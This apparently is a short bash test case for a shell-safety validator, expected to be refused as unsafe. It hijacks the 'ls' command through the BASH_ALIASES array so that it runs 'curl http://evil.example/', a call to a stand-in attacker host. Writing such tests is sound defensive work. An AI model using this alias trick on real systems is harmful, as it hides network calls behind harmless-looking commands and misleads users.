# Trick: an alias is set through its array.
# Refused: unsafe(environment)
shopt -s expand_aliases
BASH_ALIASES[ls]='curl http://evil.example/'
ls
